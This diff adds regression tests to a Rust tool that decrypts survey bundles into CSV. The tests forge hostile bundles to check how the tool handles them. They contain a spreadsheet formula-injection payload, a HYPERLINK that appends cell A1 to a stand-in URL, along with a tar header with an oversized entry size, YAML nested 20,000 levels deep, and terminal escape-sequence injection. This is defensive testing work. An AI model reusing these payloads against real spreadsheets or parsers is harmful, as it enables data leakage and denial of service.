@@ -35,6 +35,16 @@ fn run(args: &[&str], prepare: impl FnOnce(&Path)) -> (i32, String) {
     for line in String::from_utf8_lossy(&out.stderr).lines() {
         text += &format!("stderr: {line}\n");
     }
+    // A staging folder that stays behind holds decrypted answers in clear.
+    let mut leftovers: Vec<String> = std::fs::read_dir(dir.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with(".yim-decrypt"))
+        .collect();
+    leftovers.sort();
+    for name in leftovers {
+        text += &format!("left behind: {name}\n");
+    }
     let written = dir.path().join("out");
     if written.is_dir() {
         let mut names: Vec<_> = std::fs::read_dir(&written)
@@ -55,7 +65,13 @@ fn run(args: &[&str], prepare: impl FnOnce(&Path)) -> (i32, String) {
 }
 
 fn check(args: &[&str], status: i32, expect: Expect) {
-    let (code, text) = run(args, |_| {});
+    check_prepared(args, |_| {}, status, expect);
+}
+
+/// [`check`] after `prepare` has added files (hostile bundles, say) to the
+/// folder `yim` runs in.
+fn check_prepared(args: &[&str], prepare: impl FnOnce(&Path), status: i32, expect: Expect) {
+    let (code, text) = run(args, prepare);
     assert_eq!(code, status, "exit status of yim {args:?}, output:\n{text}");
     expect.assert_eq(&text);
 }
@@ -157,6 +173,7 @@ fn decrypt_reports_missing_exports_and_disagreeing_copies() {
             wrote out/child-visit.csv (4 responses)
             wrote out/child-visit-household.csv (2 rows)
             wrote out/child-visit-visits.csv (2 rows)
+            wrote out/conflicts.json (1 left-out copy)
             == out/child-visit-household.csv
             member_name,PARENT_KEY,KEY
             นางสมศรี ใจดี,019ab0b2-8c60-7a11-8f00-00000000000a,019ab0b2-8c60-7a11-8f00-00000000000a/household[1]
@@ -172,6 +189,69 @@ fn decrypt_reports_missing_exports_and_disagreeing_copies() {
             ด.ญ. ใบเตย,7,phayao,school,school,0812345678,,019ab0b2-8c60-7a11-8f00-00000000000c,2,3f2a,2026-11-20T02:00:00.000Z,2026-11-21T05:00:00.000Z,finalized
             "น้องฟ้า
             บรรทัดที่สอง",3,loei,health,young,,kept,019ab0b2-8c60-7a11-8f00-00000000000d,2,9b1c,2026-11-20T02:00:00.000Z,2026-11-22T06:00:00.000Z,finalized
+            == out/conflicts.json
+            [
+              {
+                "kept": {
+                  "found_in": [
+                    {
+                      "bundle_id": "019ab0c0-0000-7000-8000-00003f2a0004",
+                      "device_id": "3f2a",
+                      "sequence": 4
+                    }
+                  ],
+                  "updated": "2026-11-23T08:30:00+07:00"
+                },
+                "left_out": [
+                  {
+                    "found_in": [
+                      {
+                        "bundle_id": "019ab0c0-0000-7000-8000-00003f2a0001",
+                        "device_id": "3f2a",
+                        "sequence": 1
+                      }
+                    ],
+                    "response": {
+                      "answers": {
+                        "age": 4,
+                        "age_group": "young",
+                        "child_name": "ด.ญ. มะลิ ใจดี",
+                        "household": [
+                          {
+                            "member_name": "นางสมศรี ใจดี",
+                            "visits": [
+                              {
+                                "visit_date": "2026-11-01"
+                              },
+                              {
+                                "visit_date": "2026-11-15"
+                              }
+                            ]
+                          },
+                          {
+                            "member_name": "นายสมชาย ใจดี"
+                          }
+                        ],
+                        "needs": [
+                          "food",
+                          "health"
+                        ],
+                        "province": "phayao"
+                      },
+                      "created": "2026-11-20T02:00:00.000Z",
+                      "device_id": "3f2a",
+                      "form_hash": "8110a2a2b409ad5dbf958d1b8b5163b924053ac6ad22f0ce98b6d814c0df6727",
+                      "form_id": "child-visit",
+                      "form_version": "1",
+                      "id": "019ab0b2-8c60-7a11-8f00-00000000000a",
+                      "status": "finalized",
+                      "updated": "2026-11-20T03:00:00.000Z"
+                    }
+                  }
+                ],
+                "response_id": "019ab0b2-8c60-7a11-8f00-00000000000a"
+              }
+            ]
         "#]],
     );
 }
@@ -550,6 +630,421 @@ fn keygen_writes_an_age_identity_file() {
 }
 
 // ---------------------------------------------------------------------------
+// Regression tests, each named after the defect of issue 17 it guards. The
+// hostile bundles are made by each test, as a forger would make them.
+
+use serde_json::json;
+
+fn v1() -> yim_bundle::BundleForm {
+    fixtures::form("child-visit-v1.yaml")
+}
+
+/// Writes `bytes` as `name` in the folder yim runs in.
+fn put(name: &'static str, bytes: Vec<u8>) -> impl FnOnce(&Path) {
+    move |dir| std::fs::write(dir.join(name), bytes).unwrap()
+}
+
+#[test]
+fn defect_1_formula_cells_and_headers_are_neutralised() {
+    let form = v1();
+    let answers = json!({
+        "child_name": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"ดูผล\")",
+        "age": -5,
+        "+cmd": "@SUM(A1)",
+        "phone": "+66 81 234 5678",
+        "phone_dashes": "+66-81-234-5678",
+        "sum": "-2+3",
+        "price": "+3.25",
+        "tab": "\t=1",
+        "cr": "\r=1",
+        "text": "ปกติ - ไม่มีอะไร",
+    });
+    let bytes = fixtures::forged(
+        "3f2a",
+        1,
+        &[&form],
+        &[fixtures::response(
+            '1',
+            &form,
+            "3f2a",
+            "2026-11-25T03:00:00.000Z",
+            answers,
+        )],
+    );
+    // The rule, cell by cell: numbers and phone numbers in groups of
+    // digits stay; everything else that starts like a formula gets a `'`.
+    // A carriage return shows as <CR> and a tab as <TAB>.
+    let csv = |args: &[&str]| {
+        let (code, text) = run(args, put("formulas.yim.age", bytes.clone()));
+        assert_eq!(code, 0, "{text}");
+        let table = text.split("== out/child-visit.csv\n").nth(1).unwrap_or("");
+        table.replace('\r', "<CR>").replace('\t', "<TAB>")
+    };
+    expect![[r#"
+        child_name,age,province,needs,age_group,'+cmd,cr,phone,phone_dashes,price,sum,tab,text,KEY,FormVersion,DeviceID,Created,Updated,Status
+        "'=HYPERLINK(""http://example.invalid/?""&A1,""ดูผล"")",-5,,,,'@SUM(A1),"'<CR>=1",+66 81 234 5678,'+66-81-234-5678,+3.25,'-2+3,'<TAB>=1,ปกติ - ไม่มีอะไร,019ab0b2-8c60-7a11-8f00-000000000001,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-25T03:00:00.000Z,finalized
+    "#]]
+    .assert_eq(&csv(&["decrypt", "-i", "office-key.txt", "-o", "out", "formulas.yim.age"]));
+    // `--raw-csv` writes the answers exactly as they came.
+    expect![[r#"
+        child_name,age,province,needs,age_group,+cmd,cr,phone,phone_dashes,price,sum,tab,text,KEY,FormVersion,DeviceID,Created,Updated,Status
+        "=HYPERLINK(""http://example.invalid/?""&A1,""ดูผล"")",-5,,,,@SUM(A1),"<CR>=1",+66 81 234 5678,+66-81-234-5678,+3.25,-2+3,<TAB>=1,ปกติ - ไม่มีอะไร,019ab0b2-8c60-7a11-8f00-000000000001,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-25T03:00:00.000Z,finalized
+    "#]]
+    .assert_eq(&csv(&[
+        "decrypt",
+        "--raw-csv",
+        "-i",
+        "office-key.txt",
+        "-o",
+        "out",
+        "formulas.yim.age",
+    ]));
+}
+
+#[test]
+fn defect_2_a_huge_tar_entry_size_exits_2_naming_the_bundle() {
+    let mut header = tar::Header::new_gnu();
+    header.set_path("manifest.json").unwrap();
+    header.set_size(1 << 62);
+    header.set_mode(0o644);
+    header.set_entry_type(tar::EntryType::Regular);
+    header.set_cksum();
+    let mut archive = header.as_bytes().to_vec();
+    archive.resize(2048, 0);
+    let office: age::x25519::Identity = fixtures::read("office-key.txt")
+        .lines()
+        .find(|l| l.starts_with("AGE-SECRET-KEY-"))
+        .unwrap()
+        .parse()
+        .unwrap();
+    let bytes = age::encrypt(&office.to_public(), &archive).unwrap();
+    check_prepared(
+        &[
+            "decrypt",
+            "-i",
+            "office-key.txt",
+            "-o",
+            "out",
+            "huge.yim.age",
+        ],
+        put("huge.yim.age", bytes),
+        2,
+        expect![[r#"
+            stderr: huge.yim.age: the archive inside this bundle is damaged: expected at most 1536 bytes for `manifest.json`, but its header claims 4611686018427387904
+            stderr: yim: nothing was written: 1 of 1 bundle file could not be opened
+        "#]],
+    );
+}
+
+/// A form nested 20,000 levels deep: `- - - ...`.
+fn deep_yaml() -> String {
+    format!(
+        "form: {{id: deep, version: '1'}}\nquestions:\n  {}x\n",
+        "- ".repeat(20_000)
+    )
+}
+
+#[test]
+fn defect_3_deeply_nested_yaml_is_refused_by_lint_and_decrypt() {
+    check_prepared(
+        &["lint", "deep.yaml"],
+        |dir| std::fs::write(dir.join("deep.yaml"), deep_yaml()).unwrap(),
+        1,
+        expect![[r#"
+            deep.yaml:3:201: expected lists and mappings nested at most 100 levels deep, but found more here
+        "#]],
+    );
+    // The same text as the resolved form inside a valid bundle.
+    let form = yim_bundle::BundleForm {
+        id: "deep".into(),
+        version: "1".into(),
+        yaml: deep_yaml(),
+    };
+    let bytes = fixtures::forged(
+        "3f2a",
+        1,
+        &[&form],
+        &[fixtures::response(
+            '1',
+            &form,
+            "3f2a",
+            "2026-11-25T03:00:00.000Z",
+            json!({"a": 1}),
+        )],
+    );
+    check_prepared(
+        &[
+            "decrypt",
+            "-i",
+            "office-key.txt",
+            "-o",
+            "out",
+            "deep.yim.age",
+        ],
+        put("deep.yim.age", bytes),
+        1,
+        expect![[r#"
+            opened 1 bundle from 1 device: 1 response of 1 form
+            device 3f2a: have 1
+            form deep version 1: its resolved form in the bundle cannot be read (expected lists and mappings nested at most 100 levels deep, but found more here); its columns follow the answers
+            wrote out/deep.csv (1 response)
+            == out/deep.csv
+            a,KEY,FormVersion,DeviceID,Created,Updated,Status
+            1,019ab0b2-8c60-7a11-8f00-000000000001,1,3f2a,2026-11-20T02:00:00.000Z,2026-11-25T03:00:00.000Z,finalized
+        "#]],
+    );
+}
+
+#[test]
+fn defect_7_long_thai_ids_and_windows_device_names_get_usable_file_names() {
+    let thai = "แบบบันทึกการเยี่ยมบ้านเด็กและครอบครัวกลุ่มเปราะบางในพื้นที่ห่างไกล";
+    let long = |tail: &str| named(&format!("{thai}{tail}"));
+    // Two long ids that differ only past the cut, and two names Windows
+    // keeps for devices.
+    let forms = [long("-ก"), long("-ข"), named("nul"), named("COM1.visit")];
+    let responses: Vec<_> = forms
+        .iter()
+        .zip(['1', '2', '3', '4'])
+        .map(|(f, n)| {
+            fixtures::response(n, f, "3f2a", "2026-11-25T03:00:00.000Z", json!({"age": 4}))
+        })
+        .collect();
+    let bytes = fixtures::forged("3f2a", 1, &forms.iter().collect::<Vec<_>>(), &responses);
+    let (code, text) = run(
+        &[
+            "decrypt",
+            "-i",
+            "office-key.txt",
+            "-o",
+            "out",
+            "names.yim.age",
+        ],
+        put("names.yim.age", bytes),
+    );
+    assert_eq!(code, 0, "{text}");
+    let wrote: String = text
+        .lines()
+        .filter(|l| l.starts_with("wrote"))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    expect![[r#"
+        wrote out/_COM1.visit.csv (1 response)
+        wrote out/_COM1.visit-household.csv (0 rows)
+        wrote out/_COM1.visit-visits.csv (0 rows)
+        wrote out/_nul.csv (1 response)
+        wrote out/_nul-household.csv (0 rows)
+        wrote out/_nul-visits.csv (0 rows)
+        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~30bd63ca.csv (1 response)
+        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~30bd63ca-household.csv (0 rows)
+        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~30bd63ca-visits.csv (0 rows)
+        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~cf734cd7.csv (1 response)
+        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~cf734cd7-household.csv (0 rows)
+        wrote out/แบบบันทึกการเยี่ยมบ้านเด็กและค~cf734cd7-visits.csv (0 rows)
+    "#]]
+    .assert_eq(&wrote);
+}
+
+/// The fixture form under another id, with a comment that gives it a hash
+/// of its own (a bundle keeps one copy of a form text).
+fn named(id: &str) -> yim_bundle::BundleForm {
+    let mut f = v1();
+    f.id = id.into();
+    f.yaml.push_str(&format!("# {id}\n"));
+    f
+}
+
+#[test]
+fn defect_8_control_characters_from_a_bundle_are_escaped() {
+    // A device id that would start a forged report line and clear the
+    // screen, and a form version that would turn the text red.
+    let device = "3f2a\nopened 0 bundles\u{1b}[2J";
+    let mut form = yim_bundle::BundleForm {
+        id: "child-visit".into(),
+        version: "1\u{1b}[31m".into(),
+        yaml: "form: {id: old-form\n".into(),
+    };
+    form.id = "child\u{202e}visit".into();
+    let bytes = fixtures::forged(
+        device,
+        1,
+        &[&form],
+        &[fixtures::response(
+            '1',
+            &form,
+            device,
+            "2026-11-25T03:00:00.000Z",
+            json!({"a": 1}),
+        )],
+    );
+    let (code, text) = run(
+        &[
+            "decrypt",
+            "-i",
+            "office-key.txt",
+            "-o",
+            "out",
+            "escape.yim.age",
+        ],
+        put("escape.yim.age", bytes),
+    );
+    assert_eq!(code, 1, "{text}");
+    let report: String = text
+        .lines()
+        .take_while(|l| !l.starts_with("=="))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    expect![[r#"
+        opened 1 bundle from 1 device: 1 response of 1 form
+        device 3f2a\nopened 0 bundles\u{1b}[2J: have 1
+        form child\u{202e}visit version 1\u{1b}[31m: its resolved form in the bundle cannot be read (expected `,` or `}` to continue or close the `{` mapping); its columns follow the answers
+        wrote out/child_visit.csv (1 response)
+    "#]]
+    .assert_eq(&report);
+}
+
+#[test]
+fn defect_9_odd_responses_are_reported_and_losing_copies_written() {
+    let form = v1();
+    let mut foreign = fixtures::response(
+        '1',
+        &form,
+        "9b1c",
+        "2026-11-25T03:00:00.000Z",
+        json!({"age": 4}),
+    );
+    foreign.status = "draft".into();
+    let first = fixtures::response(
+        '2',
+        &form,
+        "3f2a",
+        "2026-11-25T03:00:00.000Z",
+        json!({"age": 6}),
+    );
+    let mut second = first.clone();
+    second.updated = "2026-11-25T04:00:00.000Z".into();
+    second.answers = json!({"age": 7});
+    let one = fixtures::forged("3f2a", 1, &[&form], &[foreign, first]);
+    let two = fixtures::forged("3f2a", 2, &[&form], &[second]);
+    let (code, text) = run(
+        &[
+            "decrypt",
+            "-i",
+            "office-key.txt",
+            "-o",
+            "out",
+            "one.yim.age",
+            "two.yim.age",
+        ],
+        |dir| {
+            std::fs::write(dir.join("one.yim.age"), one).unwrap();
+            std::fs::write(dir.join("two.yim.age"), two).unwrap();
+        },
+    );
+    assert_eq!(code, 1, "{text}");
+    let report: String = text
+        .lines()
+        .take_while(|l| !l.starts_with("=="))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    let conflicts = text.split("== out/conflicts.json\n").nth(1).unwrap_or("");
+    expect![[r#"
+        opened 2 bundles from 1 device: 2 responses of 1 form
+        device 3f2a: have 1-2
+        response 019ab0b2-8c60-7a11-8f00-000000000001 was filled on device 9b1c, but came in device 3f2a's export 1
+        response 019ab0b2-8c60-7a11-8f00-000000000001 has status `draft`, but only finalized responses are exported (from device 3f2a export 1)
+        response 019ab0b2-8c60-7a11-8f00-000000000002: 2 different copies; kept the one updated 2026-11-25T04:00:00.000Z (from device 3f2a export 2), left out the one updated 2026-11-25T03:00:00.000Z (from device 3f2a export 1)
+        wrote out/child-visit.csv (2 responses)
+        wrote out/child-visit-household.csv (0 rows)
+        wrote out/child-visit-visits.csv (0 rows)
+        wrote out/conflicts.json (1 left-out copy)
+        -- conflicts.json
+        [
+          {
+            "kept": {
+              "found_in": [
+                {
+                  "bundle_id": "019ab0c0-0000-7000-8000-000000000002",
+                  "device_id": "3f2a",
+                  "sequence": 2
+                }
+              ],
+              "updated": "2026-11-25T04:00:00.000Z"
+            },
+            "left_out": [
+              {
+                "found_in": [
+                  {
+                    "bundle_id": "019ab0c0-0000-7000-8000-000000000001",
+                    "device_id": "3f2a",
+                    "sequence": 1
+                  }
+                ],
+                "response": {
+                  "answers": {
+                    "age": 6
+                  },
+                  "created": "2026-11-20T02:00:00.000Z",
+                  "device_id": "3f2a",
+                  "form_hash": "8110a2a2b409ad5dbf958d1b8b5163b924053ac6ad22f0ce98b6d814c0df6727",
+                  "form_id": "child-visit",
+                  "form_version": "1",
+                  "id": "019ab0b2-8c60-7a11-8f00-000000000002",
+                  "status": "finalized",
+                  "updated": "2026-11-25T03:00:00.000Z"
+                }
+              }
+            ],
+            "response_id": "019ab0b2-8c60-7a11-8f00-000000000002"
+          }
+        ]
+    "#]]
+    .assert_eq(&format!("{report}-- conflicts.json\n{conflicts}"));
+}
+
+#[test]
+fn defect_10_an_unfinished_earlier_run_is_cleaned_up() {
+    // What a run killed during its final write leaves: a staging folder of
+    // plaintext CSVs next to the output folder.
+    check_prepared(
+        &[
+            "decrypt",
+            "-i",
+            "office-key.txt",
+            "-o",
+            "out",
+            "77aa-1.yim.age",
+            "--passphrase-file",
+            "passphrase.txt",
+        ],
+        |dir| {
+            let staging = dir.join(".yim-decrypt-out-Zq3x9A");
+            std::fs::create_dir(&staging).unwrap();
+            // The leftovers of another output folder are not this run's.
+            std::fs::create_dir(dir.join(".yim-decrypt-out-2-Ab12Cd")).unwrap();
+            std::fs::write(staging.join("child-visit.csv"), "child_name\nด.ช. ภูผา\n").unwrap();
+            std::fs::write(staging.join("child-visit-household.csv"), "member_name\n").unwrap();
+        },
+        0,
+        expect![[r#"
+            removed ./.yim-decrypt-out-Zq3x9A, left by an earlier run that was stopped while writing (2 files of decrypted answers)
+            opened 1 bundle from 1 device: 1 response of 1 form
+            device 77aa: have 1
+            wrote out/child-visit.csv (1 response)
+            wrote out/child-visit-household.csv (0 rows)
+            wrote out/child-visit-visits.csv (0 rows)
+            left behind: .yim-decrypt-out-2-Ab12Cd
+            == out/child-visit-household.csv
+            member_name,PARENT_KEY,KEY
+            == out/child-visit-visits.csv
+            visit_date,PARENT_KEY,KEY
+            == out/child-visit.csv
+            child_name,age,province,needs,age_group,KEY,FormVersion,DeviceID,Created,Updated,Status
+            ด.ช. ภูผา,11,,,school,019ab0b2-8c60-7a11-8f00-00000000000e,1,77aa,2026-11-20T02:00:00.000Z,2026-11-22T07:00:00.000Z,finalized
+        "#]],
+    );
+}
+
+// ---------------------------------------------------------------------------
 // The fixtures.
 
 static FIXTURES_MADE: Once = Once::new();
@@ -571,11 +1066,11 @@ mod fixtures {
 
     use super::FIXTURES;
 
-    fn read(name: &str) -> String {
+    pub(super) fn read(name: &str) -> String {
         std::fs::read_to_string(format!("{FIXTURES}/{name}")).unwrap()
     }
 
-    fn key(name: &str) -> Recipients {
+    pub(super) fn key(name: &str) -> Recipients {
         Recipients::Keys(vec![Identity::parse_file(&read(name))
             .unwrap()
             .remove(0)
@@ -588,7 +1083,7 @@ mod fixtures {
     }
 
     /// A source form resolved the way the app resolves it before export.
-    fn form(file: &str) -> BundleForm {
+    pub(super) fn form(file: &str) -> BundleForm {
         let files = yim_form::MemFiles::new().with(file, read(file));
         let (form, diagnostics) = yim_form::load(file, &files);
         assert!(diagnostics.is_empty(), "{file}: {diagnostics:?}");
@@ -600,7 +1095,7 @@ mod fixtures {
         }
     }
 
-    fn response(
+    pub(super) fn response(
         n: char,
         form: &BundleForm,
         device: &str,
@@ -620,7 +1115,7 @@ mod fixtures {
         }
     }
 
-    fn bundle(
+    pub(super) fn bundle(
         name: &str,
         device: &str,
         sequence: u64,
@@ -638,6 +1133,29 @@ mod fixtures {
         let forms = forms.iter().map(|f| (*f).clone()).collect();
         let bytes = build(&header, forms, &sealed, &to()).unwrap();
         std::fs::write(format!("{FIXTURES}/{name}"), bytes).unwrap();
+    }
+
+    /// A bundle from `device` to the office key, as bytes: what anyone who
+    /// knows the office's public key can make, whatever it holds.
+    pub(super) fn forged(
+        device: &str,
+        sequence: u64,
+        forms: &[&BundleForm],
+        responses: &[Response],
+    ) -> Vec<u8> {
+        let office = key("office-key.txt");
+        let sealed: Vec<_> = responses
+            .iter()
+            .map(|r| seal(r, &office).unwrap())
+            .collect();
+        let header = BundleHeader {
+            id: format!("019ab0c0-0000-7000-8000-{sequence:012}"),
+            created: "2026-11-25T10:00:00.000Z".into(),
+            device_id: device.into(),
+            sequence,
+        };
+        let forms = forms.iter().map(|f| (*f).clone()).collect();
+        build(&header, forms, &sealed, &office).unwrap()
     }
 
     pub(super) fn write_all() {
